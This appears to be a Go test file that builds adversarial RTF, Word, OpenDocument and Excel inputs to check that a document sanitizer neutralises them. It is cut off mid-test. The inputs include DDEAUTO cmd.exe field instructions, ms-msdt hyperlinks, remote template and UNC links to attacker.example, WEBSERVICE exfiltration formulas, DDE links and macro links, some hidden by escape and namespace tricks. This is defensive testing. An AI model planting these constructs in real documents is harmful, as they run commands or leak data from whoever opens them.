package e2e

import (
	"bytes"
	"image"
	"image/jpeg"
	"os/exec"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/testtool"
)

// The cases below attack the allow-lists from where a reader and the sanitizer could
// read one input differently: escapes a reader decodes (\ucN skips, \uN in names,
// namespace prefixes, markup-compatibility), names a reader normalises (trailing dots,
// case), MIME a reader repairs, and JPEG structure a decoder tolerates.

const (
	mcNS     = `http://schemas.openxmlformats.org/markup-compatibility/2006`
	strictW  = `http://purl.oclc.org/ooxml/wordprocessingml/main`
	strictR  = `http://purl.oclc.org/ooxml/officeDocument/relationships`
	ddeInstr = `DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`
)

// field is a complete Word field whose instruction is instr, with runs written by wp
// (the prefix the WordprocessingML namespace has at that point).
func field(wp, instr string) string {
	r := func(s string) string { return "<" + wp + "r>" + s + "</" + wp + "r>" }
	return r(`<`+wp+`fldChar `+wp+`fldCharType="begin"/>`) + r(`<`+wp+`instrText xml:space="preserve">`+instr+`</`+wp+`instrText>`) +
		r(`<`+wp+`fldChar `+wp+`fldCharType="separate"/>`) + r(`<`+wp+`t>shown</`+wp+`t>`) + r(`<`+wp+`fldChar `+wp+`fldCharType="end"/>`)
}

// TestReadersRTF: field instructions and shape properties as Word reads them.
func TestReadersRTF(t *testing.T) {
	shape := func(props string) []byte {
		return []byte(`{\rtf1\ansi{\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}` + props + `{\sp{\sn pibFlags}{\sv 10}}}}}`)
	}
	cases := []advCase{
		// Word and LibreOffice skip \ucN characters after \uN: ms-msdt: and hcp: to them.
		{"rtf/uc-skip-hyperlink-msdt", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 ailto:s-msdt:/id PCWDiagnostic /skip force"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/uc-skip-hyperlink-hcp", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc7\u104 ttps://cp://attacker.example/x"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/uc-skip-across-empty-group", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 {}ailto:s-msdt:/id PCWDiagnostic"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/uc-skip-into-child-group", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 {ailto:}s-msdt:/id PCWDiagnostic"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/field-two-instructions", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst PAGE }{\*\fldinst HYPERLINK "ms-msdt:/id PCWDiagnostic"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/uc-skip-dde", "a.rtf", "", []byte(`{\rtf1\ansi\uc2{\field{\*\fldinst \u68 xxDE\u65 ??UTO cmd "/c calc"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/hex-escaped-includepicture", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst \'49NCLUDEPICTURE "http://attacker.example/a.png" \\d}{\fldrslt x}}}`), "safe", ""},
		{"rtf/field-in-footnote", "a.rtf", "", []byte(`{\rtf1\ansi x{\footnote {\field{\*\fldinst INCLUDETEXT "http://attacker.example/a"}{\fldrslt x}}}}`), "safe", ""},
		{"rtf/field-in-ud", "a.rtf", "", []byte(`{\rtf1\ansi{\upr{x}{\*\ud{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt x}}}}}`), "safe", ""},
		{"rtf/mailmerge-odso", "a.rtf", "", []byte(`{\rtf1\ansi{\*\mailmerge\mmmaintypeletters\mmdatatypeodso{\*\mmconnectstr Provider=MSDASQL;Data Source=\\\\attacker.example\\s\\x.xlsx}{\*\mmdatasource \\\\attacker.example\\s\\x.xlsx}}x}`), "safe", ""},
		// Pictures linked through every *BlipName property, and pibName spelled so that
		// only a reader that decodes the name sees it.
		{"rtf/shape-fill-blip-name", "a.rtf", "", shape(`{\sp{\sn fillType}{\sv 3}}{\sp{\sn fillBlipName}{\sv \\\\attacker.example\\s\\a.png}}{\sp{\sn fillBlipFlags}{\sv 10}}`), "safe", ""},
		{"rtf/shape-line-fill-blip-name", "a.rtf", "", shape(`{\sp{\sn lineFillBlipName}{\sv http://attacker.example/a.png}}`), "safe", ""},
		{"rtf/shape-pib-print-name", "a.rtf", "", shape(`{\sp{\sn pibPrintName}{\sv http://attacker.example/a.png}}`), "safe", ""},
		{"rtf/shape-name-unicode-escape", "a.rtf", "", shape(`{\sp{\sn \u112?ibName}{\sv http://attacker.example/a.png}}`), "safe", ""},
		{"rtf/shape-name-twice", "a.rtf", "", shape(`{\sp{\sn shapeType}{\sn pibName}{\sv http://attacker.example/a.png}}`), "safe", ""},
		{"rtf/shape-name-nested-group", "a.rtf", "", shape(`{\sp{{\sn pibName}}{\sv http://attacker.example/a.png}}`), "safe", ""},
		{"rtf/shape-property-outside-sp", "a.rtf", "", shape(`{\wp{\sn pibName}{\sv http://attacker.example/a.png}}`), "safe", ""},
	}
	runCases(t, cases)
}

// TestReadersOOXML: Word parts whose fields and links hide behind namespace prefixes,
// markup compatibility, strict namespaces and odd spellings of a link target.
func TestReadersOOXML(t *testing.T) {
	hl := func(target string) string {
		return `<Relationship Id="rId9" Type="` + relBase + `hyperlink" Target="` + target + `" TargetMode="External"/>`
	}
	link := `<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`
	settings := `<Relationship Id="rId5" Type="` + relBase + `settings" Target="settings.xml"/>`
	settingsCT := `<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`
	cases := []advCase{
		{"ooxml/field-under-other-prefix", "a.docx", "", docx(t, `<x:p xmlns:x="`+wNS+`">`+field("x:", ddeInstr)+`</x:p>`, "", ""), "safe", ""},
		{"ooxml/field-under-default-namespace", "a.docx", "", docx(t, `<p xmlns="`+wNS+`">`+strings.ReplaceAll(field("", ddeInstr), ` fldCharType`, ` w:fldCharType`)+`</p>`, "", ""), "safe", ""},
		{"ooxml/field-under-ignorable-alias", "a.docx", "", docx(t, `<w:p xmlns:v="`+wNS+`" xmlns:mc="`+mcNS+`" mc:Ignorable="v">`+field("v:", ddeInstr)+`</w:p>`, "", ""), "safe", ""},
		{"ooxml/field-in-process-content", "a.docx", "", docx(t, `<zz:wrap xmlns:zz="urn:x-attacker" xmlns:mc="`+mcNS+`" mc:Ignorable="zz" mc:ProcessContent="zz:wrap"><w:p>`+field("w:", ddeInstr)+`</w:p></zz:wrap>`, "", ""), "safe", ""},
		{"ooxml/field-in-choice-other-prefix", "a.docx", "", docx(t, `<w:p><m:AlternateContent xmlns:m="`+mcNS+`"><m:Choice Requires="w">`+field("w:", ddeInstr)+`</m:Choice></m:AlternateContent></w:p>`, "", ""), "safe", ""},
		{"ooxml/field-in-sdt-and-smarttag", "a.docx", "", docx(t, `<w:sdt><w:sdtContent><w:p><w:smartTag w:uri="x" w:element="y">`+field("w:", ddeInstr)+`</w:smartTag></w:p></w:sdtContent></w:sdt>`, "", ""), "safe", ""},
		{"ooxml/field-across-paragraphs", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "safe", ""},
		{"ooxml/fldsimple-character-references", "a.docx", "", docx(t, `<w:p><w:fldSimple w:instr="&#68;&#x44;EAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, "", ""), "safe", ""},
		{"ooxml/strict-namespaces", "a.docx", "", mkzip(t, docxParts()[0], docxParts()[1],
			zipEntry{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="` + strictW + `" xmlns:r="` + strictR + `"><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`},
			zipEntry{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId9" Type="` + strictR + `/hyperlink" Target="file://attacker.example/x.exe" TargetMode="External"/></Relationships>`}), "safe", ""},
		{"ooxml/part-name-case-duplicate", "a.docx", "", docx(t, para("clean"), "", "", zipEntry{"Word/Document.xml", `<w:document xmlns:w="` + wNS + `"><w:body><w:p>` + field("w:", ddeInstr) + `</w:p></w:body></w:document>`}), "safe", ""},
		{"ooxml/rels-name-case-duplicate", "a.docx", "", docx(t, para("clean"), "", "", zipEntry{"word/_rels/Document.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId2" Type="` + relBase + `attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`}), "safe", ""},
		{"ooxml/relationship-id-duplicate", "a.docx", "", docx(t, link, hl("https://ok.example/")+hl("file://attacker.example/x.exe"), ""), "safe", ""},
		{"ooxml/hyperlink-percent-encoded-scheme", "a.docx", "", docx(t, link, hl("%66ile://attacker.example/x.exe"), ""), "safe", ""},
		{"ooxml/hyperlink-tab-before-scheme", "a.docx", "", docx(t, link, hl("&#x9;file://attacker.example/x.exe"), ""), "safe", ""},
		{"ooxml/hyperlink-newline-in-scheme", "a.docx", "", docx(t, link, hl("java&#xA;script:alert(1)"), ""), "safe", ""},
		{"ooxml/hyperlink-protocol-relative", "a.docx", "", docx(t, link, hl("//attacker.example/share/x.exe"), ""), "safe", ""},
		{"ooxml/hyperlink-http-backslashes", "a.docx", "", docx(t, link, hl(`http:\\attacker.example\share\x.exe`), ""), "safe", ""},
		{"ooxml/hyperlink-ms-word-handler", "a.docx", "", docx(t, link, hl("ms-word:ofe|u|https://attacker.example/x.docx"), ""), "safe", ""},
		{"ooxml/hyperlink-internal-absolute", "a.docx", "", docx(t, link, `<Relationship Id="rId9" Type="`+relBase+`hyperlink" Target="file:///C:/Windows/System32/calc.exe"/>`, ""), "safe", ""},
		{"ooxml/hyperlink-xml-base", "a.docx", "", docx(t, strings.Replace(link, "<w:hyperlink", `<w:hyperlink xml:base="file://attacker.example/"`, 1), hl("x.exe"), ""), "safe", ""},
		{"ooxml/drawing-hlinkclick-program", "a.docx", "", docx(t, `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p"><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId9" action="ppaction://program"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>`, hl("file://attacker.example/x.exe"), ""), "safe", ""},
		{"ooxml/mail-merge-source", "a.docx", "", docx(t, para("x"), settings, settingsCT,
			zipEntry{"word/settings.xml", `<w:settings xmlns:w="` + wNS + `" xmlns:r="` + relBase[:len(relBase)-1] + `"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\attacker.example\s\x.xlsx"/><w:query w:val="SELECT * FROM x"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`},
			zipEntry{"word/_rels/settings.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `mailMergeSource" Target="file:///\\attacker.example\s\x.xlsx" TargetMode="External"/></Relationships>`}), "safe", ""},
		{"ooxml/web-settings-frameset", "a.docx", "", docx(t, para("x"), `<Relationship Id="rId6" Type="`+relBase+`webSettings" Target="webSettings.xml"/>`, `<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/>`,
			zipEntry{"word/webSettings.xml", `<w:webSettings xmlns:w="` + wNS + `" xmlns:r="` + relBase[:len(relBase)-1] + `"><w:frameset><w:frame><w:name w:val="1"/><w:sourceFileName r:id="rId1"/><w:linkedToFile/></w:frame></w:frameset></w:webSettings>`},
			zipEntry{"word/_rels/webSettings.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `frame" Target="http://attacker.example/x.docx" TargetMode="External"/></Relationships>`}), "safe", ""},
		{"ooxml/glossary-document", "a.docx", "", docx(t, para("x"), `<Relationship Id="rId7" Type="`+relBase+`glossaryDocument" Target="glossary/document.xml"/>`, `<Override PartName="/word/glossary/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/>`,
			zipEntry{"word/glossary/document.xml", `<w:glossaryDocument xmlns:w="` + wNS + `" xmlns:r="` + relBase[:len(relBase)-1] + `"><w:docParts><w:docPart><w:docPartPr><w:name w:val="x"/></w:docPartPr><w:docPartBody><w:p>` + field("w:", ddeInstr) + `</w:p>` + link + `</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>`},
			zipEntry{"word/glossary/_rels/document.xml.rels", `<Relationships xmlns="` + relsNS + `">` + hl("file://attacker.example/x.exe") + `</Relationships>`}), "safe", ""},
		// Binary field data (an MZ header here) is copied as it is: Word parses it for
		// some field types, and no allow-list judges its bytes.
		{"ooxml/field-binary-data", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"><w:fldData xml:space="preserve">TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=</w:fldData></w:fldChar></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "safe", ""},
	}
	runCases(t, cases)
}

// TestReadersODF: scripts, forms and linked objects in OpenDocument text, spelled with
// other prefixes and in styles.xml as well as content.xml.
func TestReadersODF(t *testing.T) {
	odtNS := `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"`
	odt := func(head, body string, parts ...zipEntry) []byte {
		p := []zipEntry{
			{"mimetype", "application/vnd.oasis.opendocument.text"},
			{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
			{"content.xml", `<?xml version="1.0"?><office:document-content ` + odtNS + ` office:version="1.2">` + head + `<office:body><office:text>` + body + `</office:text></office:body></office:document-content>`},
		}
		return mkzip(t, append(p, parts...)...)
	}
	frame := func(s string) string {
		return `<text:p><draw:frame svg:width="1cm" svg:height="1cm">` + s + `</draw:frame></text:p>`
	}
	forms := func(s string) string { return `<office:forms>` + s + `</office:forms>` }
	basic := `vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application`
	cases := []advCase{
		{"odf/scripts-under-other-prefixes", "a.odt", "", odt(`<o:scripts xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:event-listeners><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" s:language="ooo:script" s:event-name="dom:load" xmlns:x="http://www.w3.org/1999/xlink" x:href="`+basic+`"/></o:event-listeners></o:scripts>`, `<text:p>x</text:p>`), "safe", ""},
		{"odf/form-button-url-and-event", "a.odt", "", odt(forms(`<form:form form:name="F" xlink:href="http://attacker.example/post" form:method="post"><form:button form:id="b" form:name="b" form:button-type="url" xlink:href="file:///C:/Windows/System32/calc.exe"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="form:performaction" xlink:href="`+basic+`"/></office:event-listeners></form:button></form:form>`), `<text:p>x</text:p>`), "safe", ""},
		// LibreOffice loads a control's image-data when the form is shown, and connects a
		// form to its data source when it loads.
		{"odf/form-image-data-remote", "a.odt", "", odt(forms(`<form:form form:name="F"><form:image-frame form:id="f" form:name="f" form:image-data="http://attacker.example/k.png"/><form:button form:id="b" form:name="b" form:image-data="file://attacker.example/s/i.png"/></form:form>`), `<text:p>x</text:p>`), "safe", ""},
		{"odf/form-external-datasource", "a.odt", "", odt(forms(`<form:form form:name="F" form:datasource="sdbc:mysql:jdbc:attacker.example:3306/db" form:command="t" form:command-type="table"><form:connection-resource xlink:href="sdbc:odbc:attacker"/><form:text form:id="t" form:name="t" form:data-field="c"/></form:form>`), `<text:p>x</text:p>`), "safe", ""},
		{"odf/click-action-on-frame", "a.odt", "", odt("", frame(`<draw:text-box><text:p>x</text:p></draw:text-box><office:event-listeners><presentation:event-listener xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>`)), "safe", ""},
		{"odf/linked-object-unc", "a.odt", "", odt("", frame(`<draw:object xlink:href="file:///\\attacker.example\s\x.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`)), "safe", ""},
		{"odf/linked-object-parent-path", "a.odt", "", odt("", frame(`<draw:object xlink:href="../../../attacker.example/s/x.ods"/>`)), "safe", ""},
		{"odf/ole-plugin-applet-links", "a.odt", "", odt("", frame(`<draw:object-ole xlink:href="http://attacker.example/x.xls"/>`)+frame(`<draw:plugin xlink:href="http://attacker.example/x.swf" draw:mime-type="application/x-shockwave-flash"/>`)+frame(`<draw:applet draw:code="X.class" xlink:href="http://attacker.example/"/>`)+frame(`<draw:floating-frame xlink:href="http://attacker.example/"/>`)), "safe", ""},
		{"odf/link-schemes", "a.odt", "", odt("", `<text:p><text:a xlink:href="vnd.libreoffice.command:.uno:Open">a</text:a><text:a xlink:href="macro:///Standard.Module1.Main">b</text:a><text:a xlink:href="%66ile:///C:/x.exe">c</text:a><text:a xlink:href=" file:///C:/x.exe">d</text:a><text:a xlink:href="slot:5500">e</text:a><text:a xlink:href=".uno:Quit">f</text:a></text:p>`), "safe", ""},
		{"odf/macro-in-styles-header", "a.odt", "", odt("", `<text:p>x</text:p>`, zipEntry{"styles.xml", `<?xml version="1.0"?><office:document-styles ` + odtNS + `><office:master-styles><style:master-page xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" style:name="Standard"><style:header><text:p><text:execute-macro text:name="Standard.Module1.Main">x</text:execute-macro><text:a xlink:href="macro:///Standard.Module1.Main">m</text:a></text:p><text:section text:name="s"><text:section-source xlink:href="http://attacker.example/x.odt"/></text:section></style:header></style:master-page></office:master-styles></office:document-styles>`}), "safe", ""},
	}
	spreadsheet := func(inTable, afterTable string) []byte {
		return mkzip(t,
			zipEntry{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
			zipEntry{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
			zipEntry{"content.xml", `<?xml version="1.0"?><office:document-content ` + odtNS + ` xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S">` + inTable + `<table:table-row><table:table-cell office:value-type="float" office:value="1"/></table:table-row></table:table>` + afterTable + `</office:spreadsheet></office:body></office:document-content>`})
	}
	cases = append(cases,
		advCase{"ods/database-range-sources", "a.ods", "", spreadsheet("", `<table:database-ranges><table:database-range table:name="x" table:target-range-address="S.A1:S.B2" table:refresh-delay="PT1S"><table:database-source-sql table:database-name="sdbc:mysql:jdbc:attacker.example:3306/db" table:sql-statement="SELECT 1"/></table:database-range><table:database-range table:name="y" table:target-range-address="S.C1:S.D2"><table:database-source-table table:database-name="\\attacker.example\s\x.odb" table:database-table-name="t"/></table:database-range></table:database-ranges>`), "safe", ""},
		advCase{"ods/linked-table-and-range", "a.ods", "", spreadsheet(`<table:table-source xlink:href="http://attacker.example/x.ods" table:mode="copy-all" table:table-name="S" table:refresh-delay="PT1S"/><table:table-row><table:table-cell><table:cell-range-source table:name="r" xlink:href="http://attacker.example/y.ods" table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell></table:table-row>`, ""), "safe", ""},
		advCase{"ods/dde-link-and-named-expression", "a.ods", "", spreadsheet("", `<table:named-expressions><table:named-expression table:name="x" table:expression="of:=WEBSERVICE(&quot;http://attacker.example/&quot;)" table:base-cell-address="$S.$A$1"/></table:named-expressions><table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></table:dde-link></table:dde-links>`), "safe", ""},
		// A data pilot table whose source is a UNO service named in the file, with a
		// source on a share and credentials: LibreOffice instantiates the service to
		// fill the table.
		advCase{"ods/data-pilot-source-service", "a.ods", "", spreadsheet("", `<table:data-pilot-tables><table:data-pilot-table table:name="p" table:target-range-address="S.A5:S.B6"><table:source-service table:name="com.sun.star.x" table:source-name="\\attacker.example\s" table:object-name="o" table:user-name="u" table:password="p"/></table:data-pilot-table></table:data-pilot-tables>`), "safe", ""},
	)
	runCases(t, cases)
}

// TestReadersSpreadsheet: formulas and links in the places of a workbook other than cells
// (tables, pivot caches, charts, form controls, VML, extension lists) and workbook
// features that write or fetch.
func TestReadersSpreadsheet(t *testing.T) {
	const sml = `http://schemas.openxmlformats.org/spreadsheetml/2006/main`
	rNS := relBase[:len(relBase)-1]
	ws := `WEBSERVICE("http://attacker.example/?"&amp;A1)`
	wsAttr := `WEBSERVICE(&quot;http://attacker.example/&quot;)`
	type book struct{ sheet, tail, sheetRels, wb, wbRels, types string }
	xlsx := func(b book, parts ...zipEntry) []byte {
		p := []zipEntry{
			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="` + ctPackage + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` + b.types + `</Types>`},
			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="` + sml + `" xmlns:r="` + rNS + `"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>` + b.wb + `</workbook>`},
			{"xl/_rels/workbook.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `worksheet" Target="worksheets/sheet1.xml"/>` + b.wbRels + `</Relationships>`},
			{"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="` + sml + `" xmlns:r="` + rNS + `"><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row>` + b.sheet + `</sheetData>` + b.tail + `</worksheet>`},
		}
		if b.sheetRels != "" {
			p = append(p, zipEntry{"xl/worksheets/_rels/sheet1.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `">` + b.sheetRels + `</Relationships>`})
		}
		return mkzip(t, append(p, parts...)...)
	}
	cases := []advCase{
		{"xlsx/function-prefixes-and-case", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f>_xlfn.WEBSERVICE("http://attacker.example/")</f></c><c r="B2"><f>webservice ("http://attacker.example/")</f></c><c r="C2"><f>@WEBSERVICE("http://attacker.example/")</f></c><c r="D2"><f>SUM('cmd'|'/c calc'!A0)</f></c></row>`}), "safe", ""},
		{"xlsx/shared-and-array-formulas", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">SUM(B1)</f></c></row><row r="3"><c r="A3"><f t="shared" si="0">` + ws + `</f></c><c r="B3"><f t="array" ref="B3">` + ws + `</f></c></row>`}), "safe", ""},
		{"xlsx/hyperlink-computed-target", "a.xlsx", "", xlsx(book{sheet: `<row r="2"><c r="A2"><f>HYPERLINK("file://attacker.example/x.exe")</f></c><c r="B2"><f>HYPERLINK(CONCATENATE("fi","le://attacker.example/x.exe"))</f></c></row>`}), "safe", ""},
		{"xlsx/table-calculated-column", "a.xlsx", "", xlsx(book{tail: `<tableParts count="1"><tablePart r:id="rId3"/></tableParts>`, sheetRels: `<Relationship Id="rId3" Type="` + relBase + `table" Target="../tables/table1.xml"/>`, types: `<Override PartName="/xl/tables/table1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"/>`},
			zipEntry{"xl/tables/table1.xml", `<table xmlns="` + sml + `" id="1" name="T" displayName="T" ref="A1:B2"><tableColumns count="2"><tableColumn id="1" name="a"/><tableColumn id="2" name="b"><calculatedColumnFormula>` + ws + `</calculatedColumnFormula><totalsRowFormula>cmd|' /c calc'!A0</totalsRowFormula></tableColumn></tableColumns></table>`}), "safe", ""},
		{"xlsx/pivot-cache-formula-and-source", "a.xlsx", "", xlsx(book{wb: `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`, wbRels: `<Relationship Id="rId5" Type="` + relBase + `pivotCacheDefinition" Target="pivotCache/pivotCacheDefinition1.xml"/>`, types: `<Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/>`},
			zipEntry{"xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition xmlns="` + sml + `" xmlns:r="` + rNS + `" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="S" r:id="rId2"/></cacheSource><cacheFields count="1"><cacheField name="a" numFmtId="0" formula="` + wsAttr + `"/></cacheFields></pivotCacheDefinition>`},
			zipEntry{"xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId2" Type="` + relBase + `externalLinkPath" Target="file:///\\attacker.example\s\x.xlsx" TargetMode="External"/></Relationships>`}), "safe", ""},
		{"xlsx/form-control-properties", "a.xlsx", "", xlsx(book{tail: `<controls><control shapeId="1025" r:id="rId3" name="B"/></controls>`, sheetRels: `<Relationship Id="rId3" Type="` + relBase + `ctrlProp" Target="../ctrlProps/ctrlProp1.xml"/>`, types: `<Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/>`},
			zipEntry{"xl/ctrlProps/ctrlProp1.xml", `<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" fmlaLink="cmd|'/c calc'!A0" fmlaRange="` + wsAttr + `"/>`}), "safe", ""},
		{"xlsx/vml-control-formulas", "a.xlsx", "", xlsx(book{tail: `<legacyDrawing r:id="rId2"/>`, sheetRels: `<Relationship Id="rId2" Type="` + relBase + `vmlDrawing" Target="../drawings/vmlDrawing1.vml"/>`},
			zipEntry{"xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" style="position:absolute;width:50pt;height:20pt"><v:fill src="http://attacker.example/f.png" type="frame"/><x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 3, 0, 3, 0</x:Anchor><x:FmlaLink>cmd|'/c calc'!A0</x:FmlaLink><x:FmlaRange>` + ws + `</x:FmlaRange></x:ClientData></v:shape></xml>`}), "safe", ""},
		{"xlsx/ole-link-through-external-reference", "a.xlsx", "", xlsx(book{tail: `<oleObjects><oleObject progId="Word.Document.12" link="[1]!''''" oleUpdate="OLEUPDATE_ALWAYS" autoLoad="1" shapeId="1025"/></oleObjects>`, wb: `<externalReferences><externalReference r:id="rId5"/></externalReferences>`, wbRels: `<Relationship Id="rId5" Type="` + relBase + `externalLink" Target="externalLinks/externalLink1.xml"/>`, types: `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`},
			zipEntry{"xl/externalLinks/externalLink1.xml", `<externalLink xmlns="` + sml + `" xmlns:r="` + rNS + `"><oleLink r:id="rId1" progId="Word.Document.12"><oleItems><oleItem name="'" advise="1"/></oleItems></oleLink></externalLink>`},
			zipEntry{"xl/externalLinks/_rels/externalLink1.xml.rels", `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `oleObject" Target="http://attacker.example/x.docx" TargetMode="External"/></Relationships>`}), "safe", ""},
		// Excel writes the workbook as HTML to destinationFile each time it is saved.
